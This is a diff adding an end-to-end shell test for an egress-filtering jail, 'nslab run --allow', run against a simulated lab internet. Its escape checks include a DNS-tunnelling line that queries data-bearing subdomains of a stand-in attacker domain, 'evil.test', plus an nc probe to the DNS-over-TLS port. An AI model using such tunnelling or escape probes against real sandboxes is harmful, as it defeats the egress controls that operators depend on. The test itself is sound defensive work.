@@ -1,0 +1,142 @@
+# SPDX-License-Identifier: MIT
+# shellcheck shell=sh
+#
+# nslab run --allow (docs/egress.md) against a fake internet: a lab with
+# dnsmasq serving zone data and HTTP/TCP servers, and `nslab exec LAB client
+# -- nslab run --allow ... -- curl/dig/nc`, so the jail's upstream is the lab.
+# Real clients: allowed names reachable (wildcard siblings too), others
+# refused at DNS and at IP; ports restricted; each escape its own check; a
+# SIGKILL of nslab run leaves nothing. Root only for now: rootless pasta
+# cannot open /dev/net/tun on this machine (docs/egress.md).
+. "${SRCDIR:=$(dirname "$0")/../..}/tests/e2e/lib.sh"
+require_env pasta dnsmasq dig curl nc
+if ! is_root; then
+	# rootless: pasta cannot open /dev/net/tun (0600 root here): refused plainly, nothing built
+	"$NSLAB" run --allow x.test -- true >"$TMP/rl.out" 2>"$TMP/rl.err"
+	rc=$?
+	if [ -r /dev/net/tun ] && [ -w /dev/net/tun ]; then
+		grep -q "not implemented" "$TMP/rl.err" || bad "rootless: $(cat "$TMP/rl.err")"
+	else
+		[ "$rc" -eq 125 ] && grep -q "/dev/net/tun" "$TMP/rl.err" &&
+			ok "rootless: refused, naming /dev/net/tun" ||
+			bad "rootless: exit $rc, $(cat "$TMP/rl.err")"
+	fi
+	finish
+fi
+
+L=$(new_lab_name egress)
+lab_up "$SRCDIR/tests/e2e/egress.yaml" "$L"
+status_json "$L" "$TMP/st.json"
+DNS=$(addr "$TMP/st.json" dns 4)
+WEB=$(addr "$TMP/st.json" web 4)
+OTHER=$(addr "$TMP/st.json" other 4)
+CLIENT=$(addr "$TMP/st.json" client 4)
+[ -n "$DNS" ] && [ -n "$WEB" ] && [ -n "$OTHER" ] || fail "no addresses in status --json"
+
+bg() {
+	_node=$1
+	shift
+	"$NSLAB" exec "$L" "$_node" -- "$@" >"$TMP/bg-$_node-$$.log" 2>&1 &
+	track_pid $!
+}
+
+# The zone: names to web and other, a CNAME to a name the tests never allow.
+QLOG="$TMP/dnsmasq.log"
+bg dns dnsmasq -k -u root --no-resolv --no-hosts --log-queries --log-facility="$QLOG" \
+	--listen-address="$DNS" --bind-interfaces --pid-file= \
+	--address=/www.x.test/"$WEB" --address=/y.test/"$WEB" --address=/bad.test/"$OTHER" \
+	--address=/evil.test/"$OTHER" --cname=alias.x.test,bad.test
+bg web python3 -m http.server 8000 --bind "$WEB" --directory "$TMP"
+bg web python3 -m http.server 8001 --bind "$WEB" --directory "$TMP"
+bg web nc -lk -s "$WEB" -p 853
+bg other python3 -m http.server 8000 --bind "$OTHER" --directory "$TMP"
+bg client python3 -m http.server 9000 --bind 127.0.0.1 --directory "$TMP"
+echo hello >"$TMP/index.html"
+
+up() { "$NSLAB" exec "$L" client -- curl -s -m 1 -o /dev/null "http://$1/"; }
+dns_up() { "$NSLAB" exec "$L" client -- dig +short +time=1 +tries=1 "@$DNS" www.x.test | grep -qxF "$WEB"; }
+wait_until 10 up "$WEB:8000" || fail "the web server on $WEB:8000 never answered"
+wait_until 10 up "$WEB:8001" || fail "the web server on $WEB:8001 never answered"
+wait_until 10 up "$OTHER:8000" || fail "the web server on $OTHER:8000 never answered"
+wait_until 10 dns_up || fail "dnsmasq on $DNS never answered"
+
+# jail NAME ALLOW CMD...: nslab run --allow ALLOW on the client; out in $TMP/NAME.out; sets rc.
+jail() {
+	_n=$1
+	_a=$2
+	shift 2
+	"$NSLAB" exec "$L" client -- "$NSLAB" run --allow "$_a" --dns-upstream "$DNS" --deny reject \
+		-- "$@" >"$TMP/$_n.out" 2>"$TMP/$_n.err" </dev/null
+	rc=$?
+}
+check() { # WHAT EXPECTED_RC
+	if [ "$rc" -eq "$2" ]; then ok "$1"; else bad "$1: exit $rc, expected $2 ($(head -3 "$TMP/$_n.err"))"; fi
+}
+CURL="curl -s -m 2 -o /dev/null -w %{http_code}"
+
+jail allowed www.x.test $CURL http://www.x.test:8000/
+check "allowed name reachable" 0
+[ "$(cat "$TMP/allowed.out")" = 200 ] || bad "allowed name: HTTP $(cat "$TMP/allowed.out")"
+
+jail wild '*.y.test' sh -c "$CURL http://a.y.test:8000/ && $CURL http://b.y.test:8001/"
+check "wildcard siblings reachable" 0
+
+jail refused www.x.test dig +time=1 +tries=1 bad.test
+grep -q "status: REFUSED" "$TMP/refused.out" && ok "a name not allowed: REFUSED" ||
+	bad "a name not allowed: $(grep status "$TMP/refused.out")"
+
+jail direct www.x.test $CURL "http://$OTHER:8000/"
+[ "$rc" -ne 0 ] && ok "an address not allowed (resolvable outside) refused" ||
+	bad "reached $OTHER:8000 directly"
+
+jail static "$OTHER" $CURL "http://$OTHER:8000/"
+check "an allowed address reachable" 0
+
+jail port www.x.test:8000/tcp sh -c "$CURL http://www.x.test:8000/ && ! $CURL http://www.x.test:8001/"
+check "a port-restricted name: its port reachable, another port refused" 0
+
+jail otherdns www.x.test dig +time=1 +tries=1 "@$DNS" www.x.test
+[ "$rc" -ne 0 ] && ok "a query to another DNS server fails" || bad "another DNS server answered"
+
+jail tunnel www.x.test sh -c 'for i in 1 2 3 4 5; do dig +time=1 +tries=1 "data$i-$$.evil.test"; done'
+if grep -q "evil.test" "$QLOG" 2>/dev/null; then bad "random subdomains reached the upstream: $(grep -c evil.test "$QLOG")"
+else ok "random subdomains of a name not allowed never reach the upstream"; fi
+grep -q "www.x.test" "$QLOG" || bad "the upstream's log shows no allowed query (is it logging?)"
+
+jail dot www.x.test sh -c "getent hosts www.x.test >/dev/null; nc -z -w 2 $WEB 853"
+[ "$rc" -ne 0 ] && ok "DoT (853) to an allowed address refused" || bad "reached $WEB:853"
+
+jail cname alias.x.test dig +time=1 +tries=1 alias.x.test
+grep -q "status: REFUSED" "$TMP/cname.out" && ok "a CNAME to a name not allowed: REFUSED" ||
+	bad "CNAME to bad.test: $(grep -E 'status|IN' "$TMP/cname.out")"
+
+jail v6 www.x.test sh -c 'ip -6 route | grep -q . || ip -6 addr | grep -q inet6'
+[ "$rc" -ne 0 ] && ok "no IPv6 address or route without --ipv6" || bad "IPv6 present in the jail"
+
+jail loop www.x.test $CURL "http://$CLIENT:9000/"
+[ "$rc" -ne 0 ] && ok "the host's own address refused" || bad "reached the host's address"
+jail loop2 www.x.test $CURL "http://127.0.0.1:9000/"
+[ "$rc" -ne 0 ] && ok "the host's loopback service unreachable" || bad "reached the host's loopback"
+
+# --- a SIGKILL of nslab run: nothing left behind (pasta, namespaces) ---
+"$NSLAB" exec "$L" client -- "$NSLAB" run --allow www.x.test --dns-upstream "$DNS" -- sleep 60 \
+	>"$TMP/kill.out" 2>&1 &
+track_pid $!
+runs() { for p in $(pgrep -f "run --allow www.x.test --dns-upstream"); do ours "$p" && [ "$(cat /proc/$p/comm)" = nslab ] && echo "$p"; done; }
+has_run() { [ -n "$(runs)" ]; }
+pasta_of() { for c in $(children_of "$1"); do case "$(cat /proc/$c/comm 2>/dev/null)" in pasta* | passt*) echo "$c" ;; esac; done; }
+R=""
+P=""
+has_pasta() { R=$(runs | tail -n 1) && [ -n "$R" ] && P=$(pasta_of "$R") && [ -n "$P" ]; }
+wait_until 10 has_pasta || fail "no pasta under nslab run during the run"
+sleepers() { for p in $(pgrep -x sleep); do ours "$p" && echo "$p"; done; }
+has_sleep() { [ -n "$(sleepers)" ]; }
+wait_until 10 has_sleep || bad "the jailed command never started"
+kill -9 "$R"
+gone() { ! alive "$1"; }
+if wait_until 5 gone "$P"; then ok "SIGKILL of nslab run: pasta gone"; else bad "pasta $P left"; fi
+no_sleep() { [ -z "$(sleepers)" ]; }
+if wait_until 5 no_sleep; then ok "SIGKILL of nslab run: the command gone"; else bad "left: $(sleepers)"; fi
+
+"$NSLAB" down "$L" || bad "nslab down $L failed"
+finish
